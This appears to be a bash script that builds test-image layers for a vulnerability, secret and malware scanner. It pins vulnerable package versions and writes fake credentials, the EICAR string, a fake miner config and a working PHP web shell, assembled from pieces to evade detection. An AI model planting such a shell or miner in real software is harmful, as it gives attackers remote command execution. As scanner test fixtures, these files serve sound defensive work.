#!/bin/bash
# Builds the contents of the language, binary, secret and malware layers of the test image as plain trees
# under $TD/layers/<name>/ (each rooted at "/"; also scannable as directories). Needs npm, go, ruby, zip,
# openssl, ssh-keygen; .debs come from Debian (bullseye through a private apt root).
. "$(dirname "$0")/lib.sh"
L=$TD/layers; SRC=$TD/src
# The files each layer must hold. A layer is built when one of its files is missing (so a layer added here is
# built into an existing test-data tree without rebuilding the others); the script fails loudly at the end if
# a build left one out.
declare -A LAYER_FILES=(
  [node]="node/app/node/node_modules/lodash/package.json"
  [pyfake]="pyfake/app/python/requirements.txt"
  [java]="java/app/java/app.jar java/app/java/lib/commons-text-1.9.jar java/app/java/lib/log4j-core-2.14.1-FAKE.jar"
  [go]="go/usr/local/bin/rampart-goapp go/usr/local/bin/direnv"
  [ruby]="ruby/app/ruby/Gemfile.lock ruby/usr/local/lib/ruby/gems/3.1.0/specifications/rexml-3.2.5.gemspec ruby/usr/local/lib/ruby/gems/3.1.0/specifications/default/uri-0.11.0.gemspec"
  [rust]="rust/app/rust/Cargo.lock"
  [secrets]="secrets/app/config/.env"
  [malware]="malware/app/uploads/eicar.com"
)
LAYERS=(node pyfake java go ruby rust secrets malware)
complete() { local f; for f in ${LAYER_FILES[$1]}; do [ -s "$L/$f" ] || return 1; done; }
pending=(); for n in "${LAYERS[@]}"; do complete "$n" || pending+=("$n"); done
[ ${#pending[@]} -eq 0 ] && exit 0
wanted() { [[ " ${pending[*]} " == *" $1 "* ]]; }
mkdir -p "$L" "$SRC/debs"

need() { command -v "$1" >/dev/null || step "apt install $2" apt_install $2; }
need go golang-go; need zip zip; need unzip unzip; need openssl openssl; need ssh-keygen openssh-client; need ruby ruby

# ---------- .debs (no install: only extracted) ----------
if wanted java || wanted go || wanted malware; then
  suite_download bullseye "$SRC/debs" libcommons-text-java=1.9-1 libjackson2-databind-java=2.12.1-1+deb11u1 \
    libyaml-snake-java=1.28-1+deb11u2 liblog4j2-java=2.17.1-1~deb11u1 direnv=2.25.2-2
  (cd "$SRC/debs" && apt-get download -q golang-golang-x-net-dev golang-golang-x-text-dev golang-gopkg-yaml.v2-dev clamav-testfiles >>"$TD/apt.log" 2>&1)
  rm -rf "$SRC/ex"; mkdir -p "$SRC/ex"
  for f in "$SRC"/debs/*.deb; do dpkg-deb -x "$f" "$SRC/ex"; done
fi

# ---------- node ----------
build_node() {
  local d=$L/node/app/node; rm -rf "$L/node"; mkdir -p "$d"
  cat >"$d/package.json" <<'J'
{ "name": "rampart-test-node-app", "version": "1.0.0", "private": true,
  "dependencies": { "lodash": "4.17.15", "minimist": "1.2.0", "express": "4.16.0",
                    "jquery": "3.4.0", "handlebars": "4.0.11" } }
J
  (cd "$d" && npm install --no-audit --no-fund --ignore-scripts --loglevel=error >/dev/null)
  mkdir -p "$d/public/js" && cp "$d/node_modules/jquery/dist/jquery.min.js" "$d/public/js/jquery-3.4.0.min.js"
  echo 'const _ = require("lodash"); const app = require("express")(); app.get("/", (q, r) => r.send(_.VERSION)); app.listen(3000);' >"$d/server.js"
}
wanted node && step "layer node (npm install)" build_node

# ---------- python (fake dist-info; real Debian python packages go in via chroot apt in make-images.sh) ----------
build_pyfake() {
  local sp=$L/pyfake/usr/local/lib/python3.9/site-packages; rm -rf "$L/pyfake"; mkdir -p "$sp" "$L/pyfake/app/python"
  local n v top
  while read -r n v top; do
    local di=$sp/$n-$v.dist-info; mkdir -p "$di" "$sp/$top"
    printf 'Metadata-Version: 2.1\nName: %s\nVersion: %s\nSummary: test fixture (fake install, metadata only)\n' "$n" "$v" >"$di/METADATA"
    printf 'pip\n' >"$di/INSTALLER"; printf '%s\n' "$top" >"$di/top_level.txt"
    printf 'Wheel-Version: 1.0\nGenerator: rampart-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n' >"$di/WHEEL"
    printf '"""fake %s %s"""\n__version__ = "%s"\n' "$n" "$v" "$v" >"$sp/$top/__init__.py"
    printf '%s/__init__.py,,\n%s-%s.dist-info/METADATA,,\n%s-%s.dist-info/RECORD,,\n' "$top" "$n" "$v" "$n" "$v" >"$di/RECORD"
    echo "$n==$v" >>"$L/pyfake/app/python/requirements.txt"
  done <<'P'
Django 2.2.0 django
Flask 0.12.2 flask
PyYAML 5.1 yaml
requests 2.19.1 requests
urllib3 1.24.1 urllib3
Jinja2 2.10 jinja2
P
}
wanted pyfake && step "layer pyfake" build_pyfake

# ---------- java ----------
build_java() {
  local d=$L/java/app/java; rm -rf "$L/java"; mkdir -p "$d/lib"
  cp "$SRC"/ex/usr/share/java/commons-text-1.9.jar "$SRC"/ex/usr/share/java/snakeyaml-1.28.jar "$d/lib/"
  cp "$SRC"/ex/usr/share/maven-repo/com/fasterxml/jackson/core/jackson-databind/2.12.1/jackson-databind-2.12.1.jar "$d/lib/"
  cp "$SRC"/ex/usr/share/maven-repo/org/apache/logging/log4j/log4j-core/2.17.1/log4j-core-2.17.1.jar \
     "$SRC"/ex/usr/share/maven-repo/org/apache/logging/log4j/log4j-api/2.17.1/log4j-api-2.17.1.jar "$d/lib/"
  # FAKE metadata-only jar claiming log4j-core 2.14.1 (Log4Shell range); no classes inside
  local t; t=$(mktemp -d); mkdir -p "$t/META-INF/maven/org.apache.logging.log4j/log4j-core"
  printf 'Manifest-Version: 1.0\nImplementation-Title: Apache Log4j Core\nImplementation-Version: 2.14.1\nBundle-SymbolicName: org.apache.logging.log4j.core\nBundle-Version: 2.14.1\n' >"$t/META-INF/MANIFEST.MF"
  printf 'groupId=org.apache.logging.log4j\nartifactId=log4j-core\nversion=2.14.1\n' >"$t/META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties"
  (cd "$t" && zip -qr -X "$d/lib/log4j-core-2.14.1-FAKE.jar" META-INF); rm -rf "$t"
  # Spring-Boot-style fat jar: nested jars stored uncompressed under BOOT-INF/lib
  t=$(mktemp -d); mkdir -p "$t/BOOT-INF/lib" "$t/META-INF/maven/com.example/test-app"
  cp "$d"/lib/commons-text-1.9.jar "$d"/lib/jackson-databind-2.12.1.jar "$d"/lib/snakeyaml-1.28.jar "$t/BOOT-INF/lib/"
  printf 'Manifest-Version: 1.0\nMain-Class: org.springframework.boot.loader.JarLauncher\nStart-Class: com.example.TestApp\nImplementation-Title: test-app\nImplementation-Version: 1.0.0\n' >"$t/META-INF/MANIFEST.MF"
  printf 'groupId=com.example\nartifactId=test-app\nversion=1.0.0\n' >"$t/META-INF/maven/com.example/test-app/pom.properties"
  (cd "$t" && zip -q -X -0 -r "$d/app.jar" META-INF BOOT-INF); rm -rf "$t"
}
wanted java && step "layer java" build_java

# ---------- go ----------
build_go() {
  local g=$SRC/goapp S=$SRC/ex/usr/share/gocode/src; rm -rf "$g" "$L/go"; mkdir -p "$g/vendor/golang.org/x" "$g/vendor/gopkg.in" "$L/go/usr/local/bin"
  cp "$SETUP/goapp/main.go" "$g/"
  printf 'module example.com/rampart-goapp\n\ngo 1.19\n\nrequire (\n\tgolang.org/x/net v0.7.0\n\tgolang.org/x/text v0.7.0\n\tgopkg.in/yaml.v2 v2.4.0\n)\n' >"$g/go.mod"
  cp -a "$S/golang.org/x/net" "$S/golang.org/x/text" "$g/vendor/golang.org/x/"; cp -a "$S/gopkg.in/yaml.v2" "$g/vendor/gopkg.in/"
  { local m
    for m in "golang.org/x/net v0.7.0 1.17" "golang.org/x/text v0.7.0 1.17" "gopkg.in/yaml.v2 v2.4.0 -"; do set -- $m
      echo "# $1 $2"; if [ "$3" = - ]; then echo "## explicit"; else echo "## explicit; go $3"; fi
      (cd "$g/vendor" && find "$1" -name '*.go' ! -name '*_test.go' -printf '%h\n' | grep -v -e /testdata -e /internal/testenv | sort -u)
    done; } >"$g/vendor/modules.txt"
  (cd "$g" && CGO_ENABLED=0 GOFLAGS=-mod=vendor GOPROXY=off GOTOOLCHAIN=local go build -trimpath -o "$L/go/usr/local/bin/rampart-goapp" .)
  cp "$SRC/ex/usr/bin/direnv" "$L/go/usr/local/bin/direnv"
}
wanted go && step "layer go (vendored build)" build_go

# ---------- ruby (Bundler lockfile + gem specifications as RubyGems writes them; no gem code) ----------
# Versions chosen against the RubyGems advisories: some inside ranges, some exactly at a fix
# (nokogiri 1.13.9, puma 5.6.4, sinatra 2.2.0, rexml 3.2.5) or just past a last_affected (httparty 0.21.0).
build_ruby() {
  local d=$L/ruby/app/ruby G=$L/ruby/usr/local/lib/ruby/gems/3.1.0; rm -rf "$L/ruby"; mkdir -p "$d" "$G/specifications/default"
  printf 'source "https://rubygems.org"\n\ngem "actionpack", "6.1.7"\ngem "sinatra", "2.2.0"\ngem "puma", "5.6.4"\ngem "nokogiri", "1.13.9"\ngem "httparty", "0.21.0"\n' >"$d/Gemfile"
  cat >"$d/Gemfile.lock" <<'G'
GEM
  remote: https://rubygems.org/
  specs:
    actionpack (6.1.7)
      actionview (= 6.1.7)
      activesupport (= 6.1.7)
      rack (~> 2.0, >= 2.0.9)
      rack-test (>= 0.6.3)
      rails-dom-testing (~> 2.0)
      rails-html-sanitizer (~> 1.0, >= 1.2.0)
    actionview (6.1.7)
      activesupport (= 6.1.7)
      builder (~> 3.1)
      erubi (~> 1.4)
      rails-dom-testing (~> 2.0)
      rails-html-sanitizer (~> 1.1, >= 1.2.0)
    activesupport (6.1.7)
      concurrent-ruby (~> 1.0, >= 1.0.2)
      i18n (>= 1.6, < 2)
      minitest (>= 5.1)
      tzinfo (~> 2.0)
      zeitwerk (~> 2.3)
    builder (3.2.4)
    concurrent-ruby (1.1.10)
    crass (1.0.6)
    erubi (1.11.0)
    httparty (0.21.0)
      mini_mime (>= 1.0.0)
      multi_xml (>= 0.5.2)
    i18n (1.12.0)
      concurrent-ruby (~> 1.0)
    loofah (2.19.0)
      crass (~> 1.0.2)
      nokogiri (>= 1.5.9)
    mini_mime (1.1.2)
    mini_portile2 (2.8.0)
    minitest (5.16.3)
    multi_xml (0.6.0)
    mustermann (2.0.2)
      ruby2_keywords (~> 0.0.1)
    nio4r (2.5.8)
    nokogiri (1.13.9)
      mini_portile2 (~> 2.8.0)
      racc (~> 1.4)
    puma (5.6.4)
      nio4r (~> 2.0)
    racc (1.6.0)
    rack (2.2.3)
    rack-protection (2.2.0)
      rack
    rack-test (2.0.2)
      rack (>= 1.3)
    rails-dom-testing (2.0.3)
      activesupport (>= 4.2.0)
      nokogiri (>= 1.6)
    rails-html-sanitizer (1.4.3)
      loofah (~> 2.3)
    ruby2_keywords (0.0.5)
    sinatra (2.2.0)
      mustermann (~> 2.0)
      rack (~> 2.2)
      rack-protection (= 2.2.0)
      tilt (~> 2.0)
    tilt (2.0.11)
    tzinfo (2.0.5)
      concurrent-ruby (~> 1.0)
    zeitwerk (2.6.6)

PLATFORMS
  ruby

DEPENDENCIES
  actionpack (= 6.1.7)
  httparty (= 0.21.0)
  nokogiri (= 1.13.9)
  puma (= 5.6.4)
  sinatra (= 2.2.0)

BUNDLED WITH
   2.3.26
G
  # gems installed into the system gem dir: written by RubyGems itself (Specification#to_ruby), fixed date
  local n v lic dir
  while read -r n v lic dir; do
    ruby -e 'n, v, lic = ARGV; puts Gem::Specification.new { |s| s.name = n; s.version = v; s.summary = n; s.authors = ["Ruby core team"]; s.licenses = lic.split(","); s.date = "2022-04-12"; s.require_paths = ["lib"] }.to_ruby' \
      "$n" "$v" "$lic" >"$G/specifications/${dir#-}$n-$v.gemspec" || return 1
  done <<'S'
rexml 3.2.5 BSD-2-Clause -
webrick 1.7.0 Ruby,BSD-2-Clause -
uri 0.11.0 Ruby,BSD-2-Clause default/
S
}
wanted ruby && step "layer ruby" build_ruby

# ---------- rust (a Cargo.lock as cargo writes it, trimmed: no checksums, which need the crates.io index) ----------
# Versions chosen against the crates.io advisories: some inside ranges, some exactly at a fix (tokio 1.18.4,
# h2 0.3.17, hyper 0.14.10, openssl 0.10.48) or just below an introduced (crossbeam-channel 0.5.11).
build_rust() {
  local d=$L/rust/app/rust n v; rm -rf "$L/rust"; mkdir -p "$d/src"
  local CRATES="bytes 1.1.0
chrono 0.4.19
crossbeam-channel 0.5.11
crossbeam-utils 0.8.19
h2 0.3.17
http 0.2.8
hyper 0.14.10
idna 0.2.3
log 0.4.17
openssl 0.10.48
openssl-sys 0.9.83
regex 1.5.4
rustls 0.23.0
serde 1.0.152
smallvec 1.6.0
time 0.1.43
tokio 1.18.4"
  printf '[package]\nname = "rampart-rust-app"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\n' >"$d/Cargo.toml"
  while read -r n v; do printf '%s = "=%s"\n' "$n" "$v"; done <<<"$CRATES" >>"$d/Cargo.toml"
  echo 'fn main() {}' >"$d/src/main.rs"
  {
    printf '# This file is automatically @generated by Cargo.\n# It is not intended for manual editing.\nversion = 3\n'
    printf '\n[[package]]\nname = "rampart-rust-app"\nversion = "0.1.0"\ndependencies = [\n'
    while read -r n v; do printf ' "%s",\n' "$n"; done <<<"$CRATES"
    printf ']\n'
    while read -r n v; do
      printf '\n[[package]]\nname = "%s"\nversion = "%s"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n' "$n" "$v"
    done <<<"$CRATES"
  } >"$d/Cargo.lock"
}
wanted rust && step "layer rust" build_rust

# ---------- secrets (all fake; assembled at run time so this script holds no literal key) ----------
build_secrets() {
  local s=$L/secrets; rm -rf "$s"; mkdir -p "$s/app/config" "$s/root/.aws" "$s/root/.ssh" "$s/etc/ssl/private"
  local AK="AKIA""IOSFODNN7EXAMPLE" SK="wJalrXUtnFEMI/K7MDENG/""bPxRfiCYEXAMPLEKEY"
  printf '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n' "$AK" "$SK" >"$s/root/.aws/credentials"
  {
    echo "DATABASE_URL=postgres://admin:Sup3rS3cretPassw0rd@db.internal:5432/app"
    echo "GITHUB_TOKEN=ghp_""$(printf 'testfaketoken%024d' 0 | head -c 36)"
    echo "STRIPE_SECRET_KEY=sk_live_""$(printf '4eC39HqLyjWDarjtT1zdp7dc%s' '')"
    echo "SLACK_WEBHOOK=https://hooks.slack.com/services/""T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"
    echo "AWS_ACCESS_KEY_ID=$AK"; echo "AWS_SECRET_ACCESS_KEY=$SK"
  } >"$s/app/config/.env"
  printf 'database:\n  user: admin\n  password: "Sup3rS3cretPassw0rd"\napi_key: "AIza""SyD-testfake-0123456789abcdefghijklm"\n' >"$s/app/config/config.yaml"
  openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -out "$s/etc/ssl/private/server.key" 2>/dev/null
  openssl req -new -x509 -key "$s/etc/ssl/private/server.key" -subj /CN=test.local -days 30 -out "$s/app/config/server.crt" 2>/dev/null
  ssh-keygen -q -t ed25519 -N '' -C test@fixture -f "$s/root/.ssh/id_ed25519"
  openssl genrsa -traditional -out "$s/root/.ssh/id_rsa" 2048 2>/dev/null || openssl genrsa -out "$s/root/.ssh/id_rsa" 2048 2>/dev/null
  chmod 600 "$s"/root/.ssh/id_* "$s/etc/ssl/private/server.key"
}
wanted secrets && step "layer secrets" build_secrets

# ---------- malware test files (harmless standard test artefacts) ----------
build_malware() {
  local m=$L/malware; rm -rf "$m"; mkdir -p "$m/app/uploads" "$m/var/www/html" "$m/tmp/.cache"
  # EICAR test string, web shell and miner config assembled from pieces, so this script is not itself detected
  printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR' '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >"$m/app/uploads/eicar.com"
  (cd "$m/app/uploads" && zip -q -X eicar.zip eicar.com)
  printf '<?php %s(base64_decode($_POST["cmd"])); %s($_GET["c"]); ?>\n' 'eval' 'system' >"$m/var/www/html/shell.php"
  printf '{ "pools": [ { "url": "%s://pool.minexmr.example:4444", "user": "44AFFq5kSiGBoZ", "pass": "x" } ],\n  "cpu": { "enabled": true }, "donate-level": 1, "comment": "xmrig config (fake)" }\n' 'stratum+tcp' >"$m/tmp/.cache/config.json"
  cp "$SRC"/ex/usr/share/clamav-testfiles/clam.exe "$SRC"/ex/usr/share/clamav-testfiles/clam.zip "$SRC"/ex/usr/share/clamav-testfiles/clam.pdf "$m/app/uploads/" 2>/dev/null || true
}
wanted malware && step "layer malware" build_malware

for d in "$L"/*/; do printf '%-10s %6s %6s files\n' "$(basename "$d")" "$(du -sh "$d" | cut -f1)" "$(find "$d" -type f | wc -l)"; done | tee "$TD/layers-summary.txt"
# fail loudly (and build again next time) if any layer came out incomplete
for n in "${LAYERS[@]}"; do for f in ${LAYER_FILES[$n]}; do
  [ -s "$L/$f" ] || { echo "setup: layer file $L/$f is missing (see $TD/apt*.log)" >&2; exit 1; }
done; done
